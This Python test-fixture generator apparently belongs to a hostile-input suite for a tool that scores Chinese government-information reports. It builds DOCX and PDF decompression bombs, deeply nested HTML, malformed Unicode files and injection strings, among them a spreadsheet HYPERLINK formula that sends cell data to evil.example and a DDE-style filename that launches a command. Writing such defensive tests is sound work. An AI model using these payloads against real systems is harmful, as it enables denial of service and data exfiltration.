"""Adversarial files for the hostile-input suite, generated (never stored): bombs are small but expanding.

Run as a script to write every file into a folder for manual red-team runs::

    python tests/hostile/make_files.py /tmp/hostile   # then: nianbao score /tmp/hostile/<file>

Each generator takes the size the attack expands to, so the tests use the real default limits with
files of a few hundred KB, and a red team can ask for the original gigabyte-sized attacks.
"""

from __future__ import annotations

import io
import sys
import zipfile
import zlib
from pathlib import Path

MiB = 1024 * 1024

_DOCX_TYPES = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
               b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
               b'<Default Extension="xml" ContentType="application/xml"/>'
               b'<Override PartName="/word/document.xml" '
               b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
               b'</Types>')
_DOCX_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
              b'<Relationship Id="rId1" '
              b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
              b'Target="word/document.xml"/></Relationships>')
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _zeros_stream(size: int, chunk: bytes = b" " * MiB):
    """Yield ``size`` bytes of padding in 1 MiB pieces (never the whole bomb in memory)."""
    left = size
    while left > 0:
        piece = chunk[:min(left, len(chunk))]
        left -= len(piece)
        yield piece


def docx_bomb(inflated: int, paragraph: str = "某某局2023年政府信息公开工作年度报告") -> bytes:
    """A valid DOCX whose word/document.xml inflates to about ``inflated`` bytes (whitespace padding)."""
    head = b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document " + _W + b"><w:body><w:p><w:r><w:t>"
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _DOCX_TYPES)
        z.writestr("_rels/.rels", _DOCX_RELS)
        with z.open("word/document.xml", "w", force_zip64=True) as f:
            f.write(head + paragraph.encode("utf-8"))
            for piece in _zeros_stream(max(0, inflated - len(head) - len(tail))):
                f.write(piece)
            f.write(tail)
    return buf.getvalue()


def _pdf(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(f"{i} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for off in offsets:
        out.write(f"{off:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _flate(size: int) -> bytes:
    c = zlib.compressobj(9)
    parts = [c.compress(b"BT /F1 12 Tf 72 720 Td (bomb) Tj ET\n")]
    parts += [c.compress(p) for p in _zeros_stream(size)]
    parts.append(c.flush())
    return b"".join(parts)


def pdf_bomb(inflated: int) -> bytes:
    """A one-page PDF whose content stream (FlateDecode) inflates to about ``inflated`` bytes."""
    data = _flate(inflated)
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        f"<< /Length {len(data)} /Filter /FlateDecode >>\nstream\n".encode() + data + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def pdf_pages(count: int) -> bytes:
    """A PDF with ``count`` empty pages sharing one content stream (tiny file, many pages)."""
    kids = " ".join(f"{4 + i} 0 R" for i in range(count)).encode()
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(count).encode() + b" >>",
            b"<< /Length 0 >>\nstream\n\nendstream"]
    objs += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>"] * count
    return _pdf(objs)


def deep_html(depth: int) -> bytes:
    """HTML nested ``depth`` levels deep (libxml2 reads 256)."""
    return ("<html><body>" + "<div>" * depth + "<p>某某局2023年政府信息公开工作年度报告</p><p>一、总体情况</p>"
            + "</div>" * depth + "</body></html>").encode("utf-8")


REPORT_TEXT = "某某局2023年政府信息公开工作年度报告\n一、总体情况\n本年度共主动公开政府信息120条。\n"


def hostile_text(title_prefix: str) -> bytes:
    """A short report whose title starts with ``title_prefix`` (a formula, Rich markup, ESC sequences)."""
    return (title_prefix + REPORT_TEXT).encode("utf-8")


GENERATORS = {
    "docx_bomb_3g.docx": lambda: docx_bomb(3 * 1024 * MiB),
    "pdf_bomb_1g.pdf": lambda: pdf_bomb(1024 * MiB),
    "pdf_2000_pages.pdf": lambda: pdf_pages(2000),
    "deep_300.html": lambda: deep_html(300),
    "deep_100000.html": lambda: deep_html(100_000),
    "utf16_odd_byte.txt": lambda: REPORT_TEXT.encode("utf-16") + b"\x00",
    "utf16_lone_surrogate.txt": lambda: b"\xff\xfe" + REPORT_TEXT.encode("utf-16-le") + b"\x00\xd8",
    "utf8_cut_last_char.txt": lambda: REPORT_TEXT.encode("utf-8") + "政".encode()[:2],
    "formula_title.txt": lambda: hostile_text('=HYPERLINK("http://evil.example/?d="&C2&D2,"某局")'),
    "markup_title.txt": lambda: hostile_text("[link=http://evil.example/]点此[/link]"),
    "escape_title.txt": lambda: hostile_text("\x1b]0;pwned\x07\x1b[2J"),
    "=1+2.txt": lambda: b"junk",
    "@SUM(1+1)*cmd|' C calc'!A0.txt": lambda: b"junk",
}


def main(argv: list[str]) -> int:
    out = Path(argv[1] if len(argv) > 1 else "hostile")
    out.mkdir(parents=True, exist_ok=True)
    for name, make in GENERATORS.items():
        (out / name).write_bytes(make())
        print(out / name)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
